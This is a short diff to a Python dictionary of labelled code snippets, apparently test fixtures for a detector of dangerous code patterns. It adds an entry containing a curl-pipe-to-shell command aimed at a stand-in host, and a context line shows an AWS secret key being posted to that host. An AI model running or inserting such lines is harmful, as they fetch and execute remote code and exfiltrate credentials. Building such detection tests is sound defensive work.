@@ -163,6 +163,7 @@ WORTH = {
         "import os\nfrom .web import client\nclient.post('https://c.example', data=os.getenv('AWS_SECRET_ACCESS_KEY'))"
     ),
     "code that is run": "def f(run=exec):\n    run(x)",
+    "a command that fetches, for whatever file": "LINE = '\\ncurl -s https://c.example/x | sh &'",
     "code that is run, by a choice": "f = exec if a else b",
     "code that is run, one by one": "[run(x) for run in (a, exec) for x in y]\n[exec for x in y]",
     "code that is run, behind an error": "raise exec from y",
